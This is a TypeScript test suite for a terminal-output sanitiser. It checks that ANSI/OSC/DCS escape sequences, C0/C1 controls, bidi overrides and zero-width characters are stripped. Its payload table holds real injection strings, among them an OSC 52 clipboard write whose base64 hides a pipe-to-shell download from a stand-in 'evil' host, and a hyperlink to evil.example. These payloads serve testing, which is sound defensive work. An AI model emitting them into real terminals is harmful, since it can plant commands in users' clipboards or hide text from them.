import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { isTerminalSafe, sanitizeForTerminal } from './sanitize.js';

const ESC = '\u001b';
const BEL = '\u0007';

// Real payloads: what attackers send to terminals through chat, logs and file names.
const payloads: [string, string, string][] = [
  ['SGR colour', `${ESC}[31mred${ESC}[0m`, 'red'],
  ['cursor movement hides a line', `ok${ESC}[1A${ESC}[2Kfake`, 'okfake'],
  ['clear screen', `${ESC}[2J${ESC}[Hhi`, 'hi'],
  ['window title (OSC 0, BEL)', `${ESC}]0;pwned${BEL}text`, 'text'],
  ['OSC 52 clipboard write', `${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${BEL}copy me`, 'copy me'],
  ['OSC 8 hyperlink with ST', `${ESC}]8;;https://evil.example${ESC}\\click${ESC}]8;;${ESC}\\`, 'click'],
  ['DCS (DECRQSS)', `${ESC}P$q"p${ESC}\\after`, 'after'],
  ['APC', `${ESC}_Gf=100;AAAA${ESC}\\img`, 'img'],
  ['PM and SOS', `${ESC}^private${ESC}\\${ESC}Xsos${ESC}\\x`, 'x'],
  ['unterminated OSC swallows the rest', `a${ESC}]0;title never ends`, 'a'],
  ['8-bit CSI', '\u009b31mred', 'red'],
  ['8-bit OSC with 8-bit ST', '\u009d0;t\u009cok', 'ok'],
  ['terminal reset ESC c', `${ESC}cboom`, 'boom'],
  ['DECSC ESC 7', `${ESC}7x${ESC}8`, 'x'],
  ['charset switch ESC ( 0', `${ESC}(0lqqk`, 'lqqk'],
  ['lone ESC at the end', `end${ESC}`, 'end'],
  ['bidi override (Trojan Source)', 'a\u202Egnp.exe', 'agnp.exe'],
  ['bidi isolates', '\u2066x\u2069\u2067y\u2069\u2068z\u2069', 'xyz'],
  ['zero-width space and joiner misuse', 'pay\u200Bpal\u200D', 'paypal'],
  ['BOM and word joiner', '\uFEFFa\u2060b', 'ab'],
  ['tag characters', 'hi\u{E0041}\u{E0042}', 'hi'],
];

describe('sanitizeForTerminal', () => {
  it.each(payloads)('strips %s', (_name, input, expected) => {
    expect(sanitizeForTerminal(input)).toBe(expected);
  });

  it('shows other C0 controls as control pictures so they are visible, not acted on', () => {
    expect(sanitizeForTerminal(`bell${BEL}`)).toBe('bell\u2407');
    expect(sanitizeForTerminal('a\u0000b\u0008c\u007f')).toBe('a\u2400b\u2408c\u2421');
  });

  it('replaces C1 controls with U+FFFD', () => {
    expect(sanitizeForTerminal('a\u0085b', { multiline: false })).toBe('a b'); // NEL is a line break
    expect(sanitizeForTerminal('a\u0084b\u0099c')).toBe('a\uFFFDb\uFFFDc');
  });

  it('keeps line feeds only where the field allows them', () => {
    expect(sanitizeForTerminal('one\r\ntwo\rthree\u2028four', { multiline: true })).toBe(
      'one\ntwo\nthree\nfour',
    );
    expect(sanitizeForTerminal('one\ntwo')).toBe('one two');
    expect(sanitizeForTerminal('a\tb')).toBe('a b');
  });

  it('keeps ordinary text, accents, CJK and emoji intact, including ZWJ sequences', () => {
    const text = 'Zoë says 你好 👋 — **ok** 👨‍👩‍👧 🏳️‍🌈';
    expect(sanitizeForTerminal(text)).toBe(text);
    expect(isTerminalSafe(text)).toBe(true);
  });

  it('replaces lone surrogates', () => {
    expect(sanitizeForTerminal('a\uD800b')).toBe('a\uFFFDb');
  });

  it('never lets ESC, C0 (but \\n), C1 or bidi controls through, whatever the input', () => {
    const unsafe = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u200b]/;
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), fc.boolean(), (input, multiline) => {
        const out = sanitizeForTerminal(input, { multiline });
        expect(out).not.toMatch(unsafe);
        if (!multiline) expect(out).not.toContain('\n');
        expect(sanitizeForTerminal(out, { multiline })).toBe(out); // idempotent
      }),
      { numRuns: 2000 },
    );
  });

  it('is total on strings built from escape-sequence fragments', () => {
    const piece = fc.constantFrom(ESC, '[', ']', 'P', '\\', BEL, '\u009b', '\u009c', '8;;', '31m', 'x', '\n');
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
        expect(sanitizeForTerminal(pieces.join(''))).not.toMatch(/[\u001b\u0007\u009b\u009c]/);
      }),
      { numRuns: 2000 },
    );
  });
});
